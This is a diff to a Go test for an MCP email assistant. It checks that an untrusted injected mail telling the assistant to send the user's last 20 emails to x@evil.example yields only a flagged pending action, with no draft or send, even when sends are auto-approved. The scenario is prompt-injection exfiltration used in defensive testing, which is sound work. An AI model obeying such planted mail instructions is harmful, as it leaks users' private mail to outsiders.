@@ -97,9 +97,9 @@ func TestMCPServer(t *testing.T) {
 	e.problem("POST", "/settings/tokens", ada, map[string]any{"name": "x", "scopes": []string{"mail.read"}, "expires_in_days": 400}, 400, "invalid_request")
 	e.problem("POST", "/settings/tokens", ada, map[string]any{"name": "x", "scopes": []string{"mail.read"}, "accounts": []string{"grace@example.com"}}, 400, "invalid_request")
 	var tok createdToken
-	e.json("POST", "/settings/tokens", ada, map[string]any{"name": "Desktop", "scopes": []string{"mail.read", "mail.compose", "calendar.read"}, "expires_in_days": 30}, 201, &tok)
+	e.json("POST", "/settings/tokens", ada, map[string]any{"name": "Desktop", "scopes": []string{"mail.read", "mail.compose", "mail.send", "calendar.read"}, "expires_in_days": 30}, 201, &tok)
 	if !strings.HasPrefix(tok.Token, jarvis.PersonalTokenPrefix) || !strings.HasPrefix(tok.Token, tok.Hint) || len(tok.Accounts) != 1 ||
-		!slices.Equal(tok.Scopes, []string{"mail.read", "mail.compose", "calendar.read"}) {
+		!slices.Equal(tok.Scopes, []string{"mail.read", "mail.compose", "mail.send", "calendar.read"}) {
 		t.Fatalf("created %+v", tok)
 	}
 	resp, body := e.do("GET", "/settings/tokens", ada, nil)
@@ -240,10 +240,10 @@ func TestMCPServer(t *testing.T) {
 		t.Fatalf("trash_thread without mail.organize: %s", toolText(res))
 	}
 
-	// The mail that tells the assistant to write to an outsider: doing what
-	// it says only makes a pending action, flagged, and nothing is drafted,
-	// even where the owner lets drafts run without asking.
-	e.json("PUT", "/settings/policy", ada, map[string]any{"auto_approve": []string{jarvis.ActionDraftCreate}, "allowed_recipient_domains": []string{"example.com"}}, 200, nil)
+	// The mail that tells the assistant to send mail to an outsider: doing
+	// what it says only makes a pending action, flagged, and nothing is
+	// sent or even drafted, though the owner lets sends run without asking.
+	e.json("PUT", "/settings/policy", ada, map[string]any{"auto_approve": []string{jarvis.ActionMessageSend}, "allowed_recipient_domains": []string{"example.com"}}, 200, nil)
 	callTool(t, cs, "search_threads", map[string]any{"query": "subject:(instructions for your assistant)"}, &threads)
 	if len(threads.Threads) != 1 {
 		t.Fatalf("injection thread: %+v", threads)
@@ -252,13 +252,19 @@ func TestMCPServer(t *testing.T) {
 	if !thread.Untrusted || !strings.Contains(thread.Messages[0].Text, "x@evil.example") {
 		t.Fatalf("injection thread %+v", thread)
 	}
-	drafts = e.Sandbox.Google.Stats()["gmail.drafts.create"]
-	callTool(t, cs, "create_draft", map[string]any{"to": []string{"x@evil.example"}, "subject": "Last 20 emails", "body_text": "As asked."}, &pending)
+	before := e.Sandbox.Google.Stats()
+	callTool(t, cs, "send_message", map[string]any{"to": []string{"x@evil.example"}, "subject": "Last 20 emails", "body_text": "As asked."}, &pending)
 	if pending.Status != jarvis.ActionPending || !slices.Contains(pending.Flags, jarvis.FlagOutsideAllowedDomains) {
-		t.Fatalf("outsider draft %+v", pending)
+		t.Fatalf("outsider send %+v", pending)
 	}
-	if n := e.Sandbox.Google.Stats()["gmail.drafts.create"]; n != drafts {
-		t.Fatal("the outsider draft was made without approval")
+	after := e.Sandbox.Google.Stats()
+	for _, op := range []string{"gmail.drafts.create", "gmail.drafts.send", "gmail.messages.send"} {
+		if after[op] != before[op] {
+			t.Fatalf("%s ran without approval", op)
+		}
+	}
+	if _, b := e.do("GET", "/gmail/scheduled", ada, nil); strings.Contains(string(b), "x@evil.example") {
+		t.Fatalf("the outsider send is held to go: %s", b)
 	}
 
 	// jarvis mcp --stdio proxies a local client to this Jarvis.
